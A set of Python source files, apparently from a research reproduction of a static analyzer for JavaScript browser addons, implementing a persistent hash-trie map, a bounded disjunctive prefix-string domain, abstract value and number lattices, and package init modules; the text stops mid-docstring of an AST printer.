        memo_key = (id(a), id(b), id(leq_values), id(absent_ok))
        hit = _LEQ_MEMO.get(memo_key)
        if hit is None:
            hit = _LEQ_MEMO_OLD.get(memo_key)
        if hit is not None and hit[0] is a and hit[1] is b:
            _LEQ_MEMO[memo_key] = hit
            return hit[2]
        abm = a.bitmap
        bbm = b.bitmap
        remaining = abm
        result = True
        while remaining:
            bit = remaining & -remaining
            remaining ^= bit
            slot_a = a.items[(abm & (bit - 1)).bit_count()]
            if bbm & bit:
                if not _leq(
                    slot_a,
                    b.items[(bbm & (bit - 1)).bit_count()],
                    shift + _BITS,
                    leq_values,
                    absent_ok,
                ):
                    result = False
                    break
            else:
                if not all(absent_ok(value) for _key, value in _entries(slot_a)):
                    result = False
                    break
        if len(_LEQ_MEMO) >= _MEMO_LIMIT:
            _LEQ_MEMO_OLD = _LEQ_MEMO
            _LEQ_MEMO = {}
        _LEQ_MEMO[memo_key] = (a, b, result)
        return result
    for key, value in _entries(a):
        bound = _get_in(b, shift, _key_hash(key), key, _SENTINEL)
        if bound is _SENTINEL:
            if not absent_ok(value):
                return False
        elif bound is not value and not leq_values(value, bound):
            return False
    return True


class PMap:
    """An immutable map. All "mutators" return a new map sharing
    structure with the old one; an update that changes nothing returns
    ``self`` itself, so callers can use ``is`` as their change test."""

    __slots__ = ("_root", "_size")

    def __init__(self, _root=_EMPTY_ROOT, _size: int | None = 0) -> None:
        self._root = _root
        # ``None`` = not yet counted (merge results defer the count: most
        # are never asked for their length).
        self._size = _size

    @classmethod
    def from_dict(cls, mapping: dict) -> "PMap":
        result = cls()
        for key, value in mapping.items():
            result = result.set(key, value)
        return result

    # -- reads ---------------------------------------------------------

    def get(self, key, default=None):
        return _get_in(self._root, 0, _key_hash(key), key, default)

    def __getitem__(self, key):
        value = _get_in(self._root, 0, _key_hash(key), key, _SENTINEL)
        if value is _SENTINEL:
            raise KeyError(key)
        return value

    def __contains__(self, key) -> bool:
        return _get_in(self._root, 0, _key_hash(key), key, _SENTINEL) is not _SENTINEL

    def __len__(self) -> int:
        if self._size is None:
            self._size = sum(1 for _ in _entries(self._root))
        return self._size

    def __iter__(self):
        for key, _value in _entries(self._root):
            yield key

    def keys(self):
        return iter(self)

    def items(self) -> Iterator[tuple]:
        return _entries(self._root)

    def values(self):
        for _key, value in _entries(self._root):
            yield value

    def to_dict(self) -> dict:
        return dict(_entries(self._root))

    def __eq__(self, other) -> bool:
        if self is other:
            return True
        if isinstance(other, PMap):
            if len(self) != len(other):
                return False
            other = other.to_dict()
        if isinstance(other, dict):
            if len(other) != len(self):
                return False
            return all(
                other.get(key, _SENTINEL) == value for key, value in self.items()
            )
        return NotImplemented

    def __hash__(self):  # pragma: no cover - maps are not hashed
        raise TypeError("PMap is not hashable")

    def __repr__(self) -> str:
        return f"PMap({self.to_dict()!r})"

    # -- updates -------------------------------------------------------

    def set(self, key, value) -> "PMap":
        root, added = _set_merged(
            self._root, 0, _key_hash(key), key, value, _replace
        )
        if root is self._root:
            return self
        size = None if self._size is None else self._size + added
        return PMap(root, size)

    def merge_changed(self, other: "PMap", combine: Callable) -> tuple["PMap", bool]:
        """Join-style merge: keys of both maps, shared keys combined via
        ``combine(self_value, other_value)``. Returns ``(merged,
        changed)`` — ``changed`` is the semantic "did ``other`` add
        anything" test. Even when nothing changed, the returned map may
        be a *different object* whose trie has adopted ``other``'s nodes
        (see :func:`_merge`); callers that keep the result make future
        merges against ``other``-derived maps O(shared prefix)."""
        if self._root is other._root:
            return self, False
        root, changed = _merge(self._root, other._root, 0, combine)
        if root is self._root:
            return self, changed
        if root is other._root:
            return other, changed
        return PMap(root, None), changed

    def merge(self, other: "PMap", combine: Callable) -> "PMap":
        """:meth:`merge_changed` under the classic identity contract:
        returns ``self`` (the same object) when ``other`` adds
        nothing."""
        merged, changed = self.merge_changed(other, combine)
        return merged if changed else self

    def leq(self, other: "PMap", leq_values: Callable, absent_ok: Callable) -> bool:
        return _leq(self._root, other._root, 0, leq_values, absent_ok)


def _replace(_old, new):
    return new


EMPTY = PMap()
