"""A k-bounded disjunctive string domain (extension).

The paper's two ``fail`` rows (LessSpamPlease, VKVideoDownloader) share
one cause: an addon talks to a small *set* of unrelated domains, and the
prefix domain of Section 5 must join them into their common prefix —
usually the empty string. The natural fix the paper leaves open is a
bounded disjunctive completion: track up to ``k`` prefix-domain elements
and only collapse to their join when the bound is exceeded.

:class:`StringSet` implements that domain:

- an element is a set of at most ``k`` :class:`Prefix` elements (its
  concretization is the union of theirs);
- join unions the sets, normalizes (drops elements subsumed by others),
  and if still over budget collapses everything into the single joined
  prefix — so the domain degrades *to exactly the paper's domain*, never
  below it;
- concat distributes pairwise (capped the same way);
- the lattice is noetherian for the same reason the prefix domain is,
  plus the fixed bound.

``benchmarks/test_ablation_stringset.py`` demonstrates that with k >= 3
the VKVideoDownloader URL-construction pattern keeps all three video
domains exact, where the prefix domain degraded to the unknown string.
Wiring the domain through the full pipeline (as the value domain's
string component) is left as configuration future work, matching the
paper's presentation of the prefix domain as the chosen sweet spot.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.domains import prefix as prefix_domain
from repro.domains.prefix import Prefix


def _normalize(elements: frozenset[Prefix], bound: int) -> frozenset[Prefix]:
    """Drop ⊥ and subsumed elements; collapse when over budget."""
    kept = [e for e in elements if not e.is_bottom]
    # Remove elements subsumed by another element.
    minimal: list[Prefix] = []
    for element in kept:
        if any(
            element is not other and element.leq(other) and not other.leq(element)
            for other in kept
        ):
            continue
        if element not in minimal:
            minimal.append(element)
    if len(minimal) > bound:
        collapsed = prefix_domain.BOTTOM
        for element in minimal:
            collapsed = collapsed.join(element)
        return frozenset({collapsed})
    return frozenset(minimal)


@dataclass(frozen=True)
class StringSet:
    """A set of at most ``bound`` prefix-domain elements."""

    elements: frozenset[Prefix] = frozenset()
    bound: int = 3

    # ------------------------------------------------------------------
    # Constructors

    @staticmethod
    def exact(text: str, bound: int = 3) -> "StringSet":
        return StringSet(frozenset({prefix_domain.exact(text)}), bound)

    @staticmethod
    def prefix(text: str, bound: int = 3) -> "StringSet":
        return StringSet(frozenset({prefix_domain.prefix(text)}), bound)

    @staticmethod
    def bottom(bound: int = 3) -> "StringSet":
        return StringSet(frozenset(), bound)

    @staticmethod
    def top(bound: int = 3) -> "StringSet":
        return StringSet(frozenset({prefix_domain.TOP}), bound)

    # ------------------------------------------------------------------
    # Queries

    @property
    def is_bottom(self) -> bool:
        return not self.elements

    @property
    def is_top(self) -> bool:
        return any(e.is_top for e in self.elements)

    def concretes(self) -> set[str] | None:
        """The finite set of concrete strings, or None if any member is
        a non-exact prefix."""
        out: set[str] = set()
        for element in self.elements:
            concrete = element.concrete()
            if concrete is None:
                return None
            out.add(concrete)
        return out

    def admits(self, concrete: str) -> bool:
        return any(element.admits(concrete) for element in self.elements)

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "StringSet") -> bool:
        return all(
            any(element.leq(bound_element) for bound_element in other.elements)
            for element in self.elements
        )

    def join(self, other: "StringSet") -> "StringSet":
        bound = min(self.bound, other.bound)
        return StringSet(
            _normalize(self.elements | other.elements, bound), bound
        )

    def meet(self, other: "StringSet") -> "StringSet":
        bound = min(self.bound, other.bound)
        met = frozenset(
            a.meet(b) for a in self.elements for b in other.elements
        )
        return StringSet(_normalize(met, bound), bound)

    # ------------------------------------------------------------------
    # Abstract operations

    def concat(self, other: "StringSet") -> "StringSet":
        if self.is_bottom or other.is_bottom:
            return StringSet.bottom(min(self.bound, other.bound))
        bound = min(self.bound, other.bound)
        combined = frozenset(
            a.concat(b) for a in self.elements for b in other.elements
        )
        return StringSet(_normalize(combined, bound), bound)

    def collapse(self) -> Prefix:
        """The element of the paper's prefix domain this set abstracts to
        (the join of all members)."""
        result = prefix_domain.BOTTOM
        for element in self.elements:
            result = result.join(element)
        return result

    def __str__(self) -> str:
        if self.is_bottom:
            return "⊥strset"
        return "{" + ", ".join(sorted(str(e) for e in self.elements)) + "}"
