"""The abstract value domain: a reduced product over JavaScript's types.

An :class:`AbstractValue` tracks, independently, whether the value may be
``undefined`` or ``null``, which booleans it may be, which number
(constant lattice), which string (prefix lattice, Section 5), and which
heap objects it may reference (allocation-site pointer analysis). This is
the "reduced product of pointer analysis, string analysis, and
control-flow analysis" interface the paper assumes of its base analysis:
control-flow analysis falls out of the address set (function values are
heap objects carrying their closure ids).
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.domains import bools, numbers
from repro.domains import prefix as prefix_domain
from repro.domains.bools import AbstractBool
from repro.domains.numbers import AbstractNumber
from repro.domains.prefix import Prefix
from repro.ir.nodes import UNDEFINED


@dataclass(frozen=True, eq=False)
class AbstractValue:
    """One abstract JavaScript value (immutable).

    Instances created on hot paths are *interned* (:func:`interned`):
    structurally equal values become the same object, so the
    identity-preserving ``is`` fast paths in joins, persistent-map merges
    and the worklist's fixpoint test fire across fixpoint rounds, not
    just within one. The hash is memoized for the intern table."""

    may_undef: bool = False
    may_null: bool = False
    boolean: AbstractBool = bools.BOTTOM
    number: AbstractNumber = numbers.BOTTOM
    string: Prefix = prefix_domain.BOTTOM
    addresses: frozenset[int] = frozenset()

    def __eq__(self, other) -> bool:
        if self is other:
            return True
        if not isinstance(other, AbstractValue):
            return NotImplemented
        return (
            self.may_undef == other.may_undef
            and self.may_null == other.may_null
            and self.boolean == other.boolean
            and self.number == other.number
            and self.string == other.string
            and self.addresses == other.addresses
        )

    def __hash__(self) -> int:
        try:
            return self._hash  # type: ignore[attr-defined]
        except AttributeError:
            value = hash((
                self.may_undef,
                self.may_null,
                self.boolean,
                self.number,
                self.string,
                self.addresses,
            ))
            object.__setattr__(self, "_hash", value)
            return value

    # ------------------------------------------------------------------
    # Lattice

    @property
    def is_bottom(self) -> bool:
        return (
            not self.may_undef
            and not self.may_null
            and self.boolean.is_bottom
            and self.number.is_bottom
            and self.string.is_bottom
            and not self.addresses
        )

    def leq(self, other: "AbstractValue") -> bool:
        if self is other:
            return True
        return (
            (not self.may_undef or other.may_undef)
            and (not self.may_null or other.may_null)
            and self.boolean.leq(other.boolean)
            and self.number.leq(other.number)
            and self.string.leq(other.string)
            and self.addresses <= other.addresses
        )

    def join(self, other: "AbstractValue") -> "AbstractValue":
        if self is other:
            return self
        may_undef = self.may_undef or other.may_undef
        may_null = self.may_null or other.may_null
        boolean = self.boolean.join(other.boolean)
        number = self.number.join(other.number)
        string = self.string.join(other.string)
        addresses = self.addresses | other.addresses
        # Identity-preserving: the abstract interpreter joins states at
        # every CFG merge, and almost all entries are unchanged — keeping
        # the same object alive lets every downstream `is` check skip.
        if (
            may_undef == self.may_undef
            and may_null == self.may_null
            and boolean is self.boolean
            and number is self.number
            and string is self.string
            and addresses == self.addresses
        ):
            return self
        if (
            may_undef == other.may_undef
            and may_null == other.may_null
            and boolean is other.boolean
            and number is other.number
            and string is other.string
            and addresses == other.addresses
        ):
            return other
        return interned(AbstractValue(
            may_undef=may_undef,
            may_null=may_null,
            boolean=boolean,
            number=number,
            string=string,
            addresses=addresses,
        ))

    def widen(self, other: "AbstractValue") -> "AbstractValue":
        """Widening: ``old.widen(joined)`` with ``self ⊑ other``.

        Every strictly-growing finite-height component jumps straight to
        its top, so a cyclic flow that keeps nudging a component
        stabilizes after one widening instead of climbing its chain.
        Address sets are kept as-is — they are bounded by the program's
        allocation sites and have no meaningful top short of "every
        address"."""
        if other is self:
            return self
        boolean = other.boolean
        if boolean != self.boolean and not boolean.is_bottom:
            boolean = bools.TOP
        number = other.number
        if number != self.number and not number.is_bottom:
            number = numbers.TOP
        string = other.string
        if string != self.string and not string.is_bottom:
            string = prefix_domain.TOP
        widened = AbstractValue(
            may_undef=other.may_undef,
            may_null=other.may_null,
            boolean=boolean,
            number=number,
            string=string,
            addresses=other.addresses,
        )
        if widened == other:
            return other
        return interned(widened)

    # ------------------------------------------------------------------
    # Queries

    def may_be_truthy(self) -> bool:
        if self.addresses:
            return True
        if self.boolean.may_true:
            return True
        number = self.number.concrete()
        if not self.number.is_bottom and (number is None or (number != 0 and number == number)):
            return True
        # A string is truthy iff nonempty; the only abstract string that
        # denotes no nonempty string is exactly "".
        if not self.string.is_bottom and self.string.concrete() != "":
            return True
        return False

    def may_be_falsy(self) -> bool:
        if self.may_undef or self.may_null:
            return True
        if self.boolean.may_false:
            return True
        number = self.number.concrete()
        if not self.number.is_bottom and (number is None or number == 0 or number != number):
            return True
        # A string may be falsy only if it may be "": the abstract string
        # must admit the empty string.
        if not self.string.is_bottom and self.string.admits(""):
            return True
        return False

    def may_be_non_object(self) -> bool:
        """Could this value be a primitive (so property access coerces or,
        for undefined/null, throws)?"""
        return (
            self.may_undef
            or self.may_null
            or not self.boolean.is_bottom
            or not self.number.is_bottom
            or not self.string.is_bottom
        )

    def may_throw_on_property_access(self) -> bool:
        """Property access throws a TypeError iff the base may be
        undefined or null — the implicit-exception trigger of Section 3."""
        return self.may_undef or self.may_null

    def to_property_name(self) -> Prefix:
        """Coerce to an abstract property-name string (JS ``ToString``)."""
        result = self.string
        if self.may_undef:
            result = result.join(prefix_domain.exact("undefined"))
        if self.may_null:
            result = result.join(prefix_domain.exact("null"))
        if not self.boolean.is_bottom:
            concrete = self.boolean.concrete()
            if concrete is None:
                result = result.join(prefix_domain.TOP)
            else:
                result = result.join(prefix_domain.exact(str(concrete).lower()))
        if not self.number.is_bottom:
            rendered = numbers.to_property_string(self.number)
            if rendered is None:
                result = result.join(prefix_domain.TOP)
            else:
                result = result.join(prefix_domain.exact(rendered))
        if self.addresses:
            # Object-to-string coercion is not tracked precisely.
            result = result.join(prefix_domain.TOP)
        return result

    def without_addresses(self) -> "AbstractValue":
        if not self.addresses:
            return self
        return interned(replace(self, addresses=frozenset()))

    def restricted_to_objects(self) -> "AbstractValue":
        """Keep only the object part (used after a successful property
        access proves the base was an object)."""
        return interned(AbstractValue(addresses=self.addresses))

    def __str__(self) -> str:
        parts: list[str] = []
        if self.may_undef:
            parts.append("undefined")
        if self.may_null:
            parts.append("null")
        if not self.boolean.is_bottom:
            parts.append(str(self.boolean))
        if not self.number.is_bottom:
            parts.append(str(self.number))
        if not self.string.is_bottom:
            parts.append(str(self.string))
        if self.addresses:
            parts.append("objs{" + ",".join(map(str, sorted(self.addresses))) + "}")
        return "|".join(parts) if parts else "⊥"


#: Hash-consing table. Bounded so pathological inputs cannot grow it
#: without limit; on overflow new values simply stay un-interned (a pure
#: perf miss — identity coincidences only ever help, never change
#: results, because every consumer treats identity as "equal for sure").
_VALUE_INTERN: dict[AbstractValue, AbstractValue] = {}
_VALUE_INTERN_LIMIT = 262_144


def interned(value: AbstractValue) -> AbstractValue:
    """The canonical instance structurally equal to ``value``."""
    cached = _VALUE_INTERN.get(value)
    if cached is not None:
        return cached
    if len(_VALUE_INTERN) < _VALUE_INTERN_LIMIT:
        _VALUE_INTERN[value] = value
    return value


#: The bottom value: no concrete value at all (unreachable / uninitialized).
BOTTOM = AbstractValue()

#: JavaScript ``undefined``.
UNDEF = AbstractValue(may_undef=True)

#: JavaScript ``null``.
NULL = AbstractValue(may_null=True)

#: An unknown string.
ANY_STRING = AbstractValue(string=prefix_domain.TOP)

#: An unknown number.
ANY_NUMBER = AbstractValue(number=numbers.TOP)

#: An unknown boolean.
ANY_BOOL = AbstractValue(boolean=bools.TOP)

# Seed the intern table with the canonical constants, so a structurally
# equal value built elsewhere (whose components may be fresh objects
# rather than the domain singletons) can never become the canonical
# representative ahead of them. Interning must canonicalize *towards*
# these — their components satisfy identity checks like
# ``value.boolean is bools.TOP``.
for _value in (BOTTOM, UNDEF, NULL, ANY_STRING, ANY_NUMBER, ANY_BOOL):
    _VALUE_INTERN[_value] = _value
del _value


#: Interned constant values. Literals are re-abstracted on every fixpoint
#: re-execution of their statement; returning the same object each time
#: lets the identity-preserving joins downstream take their ``is`` fast
#: paths. Keyed by (type name, repr) so ``True``/``1.0`` and
#: ``0.0``/``-0.0`` never collide. Bounded: pathological programs with
#: unbounded distinct literals cannot grow it without limit.
_CONSTANT_CACHE: dict[tuple[str, str], AbstractValue] = {}
_CONSTANT_CACHE_LIMIT = 8192


def _build_constant(value: object) -> AbstractValue:
    if isinstance(value, bool):
        return interned(AbstractValue(boolean=bools.from_bool(value)))
    if isinstance(value, float):
        return interned(AbstractValue(number=numbers.constant(value)))
    if isinstance(value, str):
        return interned(AbstractValue(string=prefix_domain.exact(value)))
    raise TypeError(f"not a JS constant: {value!r}")


def from_constant(value: object) -> AbstractValue:
    """Abstract a JS constant as carried by :class:`repro.ir.nodes.Const`.

    Common constants are interned (one :class:`AbstractValue` per
    distinct literal) so repeated evaluation under the fixpoint reuses
    the same immutable object.
    """
    if value is UNDEFINED:
        return UNDEF
    if value is None:
        return NULL
    key = (type(value).__name__, repr(value))
    cached = _CONSTANT_CACHE.get(key)
    if cached is None:
        cached = _build_constant(value)
        if len(_CONSTANT_CACHE) < _CONSTANT_CACHE_LIMIT:
            _CONSTANT_CACHE[key] = cached
    return cached


def from_string(abstract: Prefix) -> AbstractValue:
    return interned(AbstractValue(string=abstract))


def from_addresses(*addresses: int) -> AbstractValue:
    return interned(AbstractValue(addresses=frozenset(addresses)))


def join_all(values: list[AbstractValue]) -> AbstractValue:
    result = BOTTOM
    for value in values:
        result = result.join(value)
    return result
