"""The abstract value domain: a reduced product over JavaScript's types.

An :class:`AbstractValue` tracks, independently, whether the value may be
``undefined`` or ``null``, which booleans it may be, which number
(constant lattice), which string (prefix lattice, Section 5), and which
heap objects it may reference (allocation-site pointer analysis). This is
the "reduced product of pointer analysis, string analysis, and
control-flow analysis" interface the paper assumes of its base analysis:
control-flow analysis falls out of the address set (function values are
heap objects carrying their closure ids).
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.domains import bools, numbers
from repro.domains import prefix as prefix_domain
from repro.domains.bools import AbstractBool
from repro.domains.numbers import AbstractNumber
from repro.domains.prefix import Prefix
from repro.ir.nodes import UNDEFINED


@dataclass(frozen=True)
class AbstractValue:
    """One abstract JavaScript value (immutable)."""

    may_undef: bool = False
    may_null: bool = False
    boolean: AbstractBool = bools.BOTTOM
    number: AbstractNumber = numbers.BOTTOM
    string: Prefix = prefix_domain.BOTTOM
    addresses: frozenset[int] = frozenset()

    # ------------------------------------------------------------------
    # Lattice

    @property
    def is_bottom(self) -> bool:
        return (
            not self.may_undef
            and not self.may_null
            and self.boolean.is_bottom
            and self.number.is_bottom
            and self.string.is_bottom
            and not self.addresses
        )

    def leq(self, other: "AbstractValue") -> bool:
        if self is other:
            return True
        return (
            (not self.may_undef or other.may_undef)
            and (not self.may_null or other.may_null)
            and self.boolean.leq(other.boolean)
            and self.number.leq(other.number)
            and self.string.leq(other.string)
            and self.addresses <= other.addresses
        )

    def join(self, other: "AbstractValue") -> "AbstractValue":
        if self is other:
            return self
        may_undef = self.may_undef or other.may_undef
        may_null = self.may_null or other.may_null
        boolean = self.boolean.join(other.boolean)
        number = self.number.join(other.number)
        string = self.string.join(other.string)
        addresses = self.addresses | other.addresses
        # Identity-preserving: the abstract interpreter joins states at
        # every CFG merge, and almost all entries are unchanged — keeping
        # the same object alive lets every downstream `is` check skip.
        if (
            may_undef == self.may_undef
            and may_null == self.may_null
            and boolean is self.boolean
            and number is self.number
            and string is self.string
            and addresses == self.addresses
        ):
            return self
        if (
            may_undef == other.may_undef
            and may_null == other.may_null
            and boolean is other.boolean
            and number is other.number
            and string is other.string
            and addresses == other.addresses
        ):
            return other
        return AbstractValue(
            may_undef=may_undef,
            may_null=may_null,
            boolean=boolean,
            number=number,
            string=string,
            addresses=addresses,
        )

    # ------------------------------------------------------------------
    # Queries

    def may_be_truthy(self) -> bool:
        if self.addresses:
            return True
        if self.boolean.may_true:
            return True
        number = self.number.concrete()
        if not self.number.is_bottom and (number is None or (number != 0 and number == number)):
            return True
        # A string is truthy iff nonempty; the only abstract string that
        # denotes no nonempty string is exactly "".
        if not self.string.is_bottom and self.string.concrete() != "":
            return True
        return False

    def may_be_falsy(self) -> bool:
        if self.may_undef or self.may_null:
            return True
        if self.boolean.may_false:
            return True
        number = self.number.concrete()
        if not self.number.is_bottom and (number is None or number == 0 or number != number):
            return True
        # A string may be falsy only if it may be "": the abstract string
        # must admit the empty string.
        if not self.string.is_bottom and self.string.admits(""):
            return True
        return False

    def may_be_non_object(self) -> bool:
        """Could this value be a primitive (so property access coerces or,
        for undefined/null, throws)?"""
        return (
            self.may_undef
            or self.may_null
            or not self.boolean.is_bottom
            or not self.number.is_bottom
            or not self.string.is_bottom
        )

    def may_throw_on_property_access(self) -> bool:
        """Property access throws a TypeError iff the base may be
        undefined or null — the implicit-exception trigger of Section 3."""
        return self.may_undef or self.may_null

    def to_property_name(self) -> Prefix:
        """Coerce to an abstract property-name string (JS ``ToString``)."""
        result = self.string
        if self.may_undef:
            result = result.join(prefix_domain.exact("undefined"))
        if self.may_null:
            result = result.join(prefix_domain.exact("null"))
        if not self.boolean.is_bottom:
            concrete = self.boolean.concrete()
            if concrete is None:
                result = result.join(prefix_domain.TOP)
            else:
                result = result.join(prefix_domain.exact(str(concrete).lower()))
        if not self.number.is_bottom:
            rendered = numbers.to_property_string(self.number)
            if rendered is None:
                result = result.join(prefix_domain.TOP)
            else:
                result = result.join(prefix_domain.exact(rendered))
        if self.addresses:
            # Object-to-string coercion is not tracked precisely.
            result = result.join(prefix_domain.TOP)
        return result

    def without_addresses(self) -> "AbstractValue":
        return replace(self, addresses=frozenset())

    def restricted_to_objects(self) -> "AbstractValue":
        """Keep only the object part (used after a successful property
        access proves the base was an object)."""
        return AbstractValue(addresses=self.addresses)

    def __str__(self) -> str:
        parts: list[str] = []
        if self.may_undef:
            parts.append("undefined")
        if self.may_null:
            parts.append("null")
        if not self.boolean.is_bottom:
            parts.append(str(self.boolean))
        if not self.number.is_bottom:
            parts.append(str(self.number))
        if not self.string.is_bottom:
            parts.append(str(self.string))
        if self.addresses:
            parts.append("objs{" + ",".join(map(str, sorted(self.addresses))) + "}")
        return "|".join(parts) if parts else "⊥"


#: The bottom value: no concrete value at all (unreachable / uninitialized).
BOTTOM = AbstractValue()

#: JavaScript ``undefined``.
UNDEF = AbstractValue(may_undef=True)

#: JavaScript ``null``.
NULL = AbstractValue(may_null=True)

#: An unknown string.
ANY_STRING = AbstractValue(string=prefix_domain.TOP)

#: An unknown number.
ANY_NUMBER = AbstractValue(number=numbers.TOP)

#: An unknown boolean.
ANY_BOOL = AbstractValue(boolean=bools.TOP)


#: Interned constant values. Literals are re-abstracted on every fixpoint
#: re-execution of their statement; returning the same object each time
#: lets the identity-preserving joins downstream take their ``is`` fast
#: paths. Keyed by (type name, repr) so ``True``/``1.0`` and
#: ``0.0``/``-0.0`` never collide. Bounded: pathological programs with
#: unbounded distinct literals cannot grow it without limit.
_CONSTANT_CACHE: dict[tuple[str, str], AbstractValue] = {}
_CONSTANT_CACHE_LIMIT = 8192


def _build_constant(value: object) -> AbstractValue:
    if isinstance(value, bool):
        return AbstractValue(boolean=bools.from_bool(value))
    if isinstance(value, float):
        return AbstractValue(number=numbers.constant(value))
    if isinstance(value, str):
        return AbstractValue(string=prefix_domain.exact(value))
    raise TypeError(f"not a JS constant: {value!r}")


def from_constant(value: object) -> AbstractValue:
    """Abstract a JS constant as carried by :class:`repro.ir.nodes.Const`.

    Common constants are interned (one :class:`AbstractValue` per
    distinct literal) so repeated evaluation under the fixpoint reuses
    the same immutable object.
    """
    if value is UNDEFINED:
        return UNDEF
    if value is None:
        return NULL
    key = (type(value).__name__, repr(value))
    cached = _CONSTANT_CACHE.get(key)
    if cached is None:
        cached = _build_constant(value)
        if len(_CONSTANT_CACHE) < _CONSTANT_CACHE_LIMIT:
            _CONSTANT_CACHE[key] = cached
    return cached


def from_string(abstract: Prefix) -> AbstractValue:
    return AbstractValue(string=abstract)


def from_addresses(*addresses: int) -> AbstractValue:
    return AbstractValue(addresses=frozenset(addresses))


def join_all(values: list[AbstractValue]) -> AbstractValue:
    result = BOTTOM
    for value in values:
        result = result.join(value)
    return result
