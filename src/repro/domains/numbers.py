"""Constant-propagation lattice for JavaScript numbers: ⊥ ⊑ const ⊑ ⊤.

The base analysis needs numbers mostly for truthiness and for array
indices used as property names; constants plus ⊤ are sufficient for both
(and mirror the "constant string analysis" precision level the paper's
base analysis uses for non-string primitives).
"""

from __future__ import annotations

import math
from dataclasses import dataclass

_BOTTOM_TAG = "bottom"
_TOP_TAG = "top"
_CONST_TAG = "const"


@dataclass(frozen=True)
class AbstractNumber:
    """⊥, ⊤, or a single numeric constant (NaN allowed)."""

    tag: str
    value: float = 0.0

    @property
    def is_bottom(self) -> bool:
        return self.tag == _BOTTOM_TAG

    @property
    def is_top(self) -> bool:
        return self.tag == _TOP_TAG

    def concrete(self) -> float | None:
        return self.value if self.tag == _CONST_TAG else None

    def leq(self, other: "AbstractNumber") -> bool:
        if self.is_bottom or other.is_top:
            return True
        if other.is_bottom or self.is_top:
            return False
        return _same_constant(self.value, other.value)

    def join(self, other: "AbstractNumber") -> "AbstractNumber":
        if self.is_bottom:
            return other
        if other.is_bottom:
            return self
        if self.is_top or other.is_top:
            return TOP
        if _same_constant(self.value, other.value):
            return self
        return TOP

    def meet(self, other: "AbstractNumber") -> "AbstractNumber":
        if self.is_top:
            return other
        if other.is_top:
            return self
        if self.is_bottom or other.is_bottom:
            return BOTTOM
        if _same_constant(self.value, other.value):
            return self
        return BOTTOM

    def __str__(self) -> str:
        if self.is_bottom:
            return "⊥num"
        if self.is_top:
            return "⊤num"
        return _render(self.value)


def _same_constant(left: float, right: float) -> bool:
    if math.isnan(left) and math.isnan(right):
        return True
    return left == right


def _render(value: float) -> str:
    """Render a float the way JavaScript coerces numbers to strings for
    the common cases (integral values lose the trailing ``.0``)."""
    if math.isnan(value):
        return "NaN"
    if math.isinf(value):
        return "Infinity" if value > 0 else "-Infinity"
    if value == int(value) and abs(value) < 1e21:
        return str(int(value))
    return repr(value)


BOTTOM = AbstractNumber(_BOTTOM_TAG)
TOP = AbstractNumber(_TOP_TAG)


def constant(value: float) -> AbstractNumber:
    return AbstractNumber(_CONST_TAG, float(value))


def to_property_string(number: AbstractNumber) -> str | None:
    """The exact property-name string of a constant number, or None."""
    concrete = number.concrete()
    if concrete is None:
        return None
    return _render(concrete)


def binary_op(operator: str, left: AbstractNumber, right: AbstractNumber) -> AbstractNumber:
    """Abstract arithmetic: precise on constants, ⊤ otherwise."""
    if left.is_bottom or right.is_bottom:
        return BOTTOM
    lv, rv = left.concrete(), right.concrete()
    if lv is None or rv is None:
        return TOP
    try:
        result = _CONCRETE_OPS[operator](lv, rv)
    except (KeyError, ZeroDivisionError, ValueError, OverflowError):
        return TOP
    return constant(result)


def _js_div(left: float, right: float) -> float:
    if right == 0:
        if left == 0 or math.isnan(left):
            return math.nan
        return math.inf if (left > 0) == (right >= 0) else -math.inf
    return left / right


def _js_mod(left: float, right: float) -> float:
    if right == 0 or math.isnan(left) or math.isnan(right):
        return math.nan
    return math.fmod(left, right)


def _to_int32(value: float) -> int:
    if math.isnan(value) or math.isinf(value):
        return 0
    result = int(value) & 0xFFFFFFFF
    return result - 0x100000000 if result >= 0x80000000 else result


def _to_uint32(value: float) -> int:
    if math.isnan(value) or math.isinf(value):
        return 0
    return int(value) & 0xFFFFFFFF


_CONCRETE_OPS = {
    "+": lambda a, b: a + b,
    "-": lambda a, b: a - b,
    "*": lambda a, b: a * b,
    "/": _js_div,
    "%": _js_mod,
    "&": lambda a, b: float(_to_int32(a) & _to_int32(b)),
    "|": lambda a, b: float(_to_int32(a) | _to_int32(b)),
    "^": lambda a, b: float(_to_int32(a) ^ _to_int32(b)),
    "<<": lambda a, b: float(_to_int32(_to_int32(a) << (_to_uint32(b) & 31))),
    ">>": lambda a, b: float(_to_int32(a) >> (_to_uint32(b) & 31)),
    ">>>": lambda a, b: float(_to_uint32(a) >> (_to_uint32(b) & 31)),
}
