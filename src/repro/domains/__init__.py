"""Abstract domains: the lattices the base analysis computes over.

- :mod:`repro.domains.prefix` — the prefix string domain of Section 5
  (the paper's third contribution), also used for object property names;
- :mod:`repro.domains.bools`, :mod:`repro.domains.numbers` — small
  constant lattices for the other primitives;
- :mod:`repro.domains.values` — the per-value reduced product (pointer,
  string, and control-flow analysis in one value);
- :mod:`repro.domains.objects`, :mod:`repro.domains.heap`,
  :mod:`repro.domains.state` — abstract objects, the allocation-site
  heap with singleton tracking (strong updates), and the machine state.
"""

from repro.domains.heap import Heap
from repro.domains.objects import AbstractObject, function_object, native_object
from repro.domains.prefix import Prefix
from repro.domains.state import State, VarKey, var_key
from repro.domains.values import AbstractValue

__all__ = [
    "Prefix",
    "AbstractValue",
    "AbstractObject",
    "function_object",
    "native_object",
    "Heap",
    "State",
    "VarKey",
    "var_key",
]
