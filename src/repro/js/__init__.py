"""JavaScript frontend: lexer, parser, and AST for the supported ES5 subset.

This package plays the role Rhino plays for the paper: it turns addon
source text into an AST, and its node count is the size metric reported in
Table 1.
"""

from repro.js import ast
from repro.js.ast import node_count
from repro.js.errors import (
    FrontendError,
    LexError,
    ParseError,
    SourcePosition,
    UnsupportedSyntaxError,
)
from repro.js.lexer import Lexer, tokenize
from repro.js.parser import Parser, SkippedStatement, parse, parse_with_recovery
from repro.js.printer import print_expression, print_program, print_statement

__all__ = [
    "ast",
    "node_count",
    "parse",
    "parse_with_recovery",
    "SkippedStatement",
    "tokenize",
    "print_program",
    "print_statement",
    "print_expression",
    "Lexer",
    "Parser",
    "FrontendError",
    "LexError",
    "ParseError",
    "UnsupportedSyntaxError",
    "SourcePosition",
]
