"""AST pretty-printer: render a parsed program back to JavaScript.

Produces canonical, parenthesized source (every expression that could
possibly be ambiguous is wrapped), so the output is not pretty-pretty but
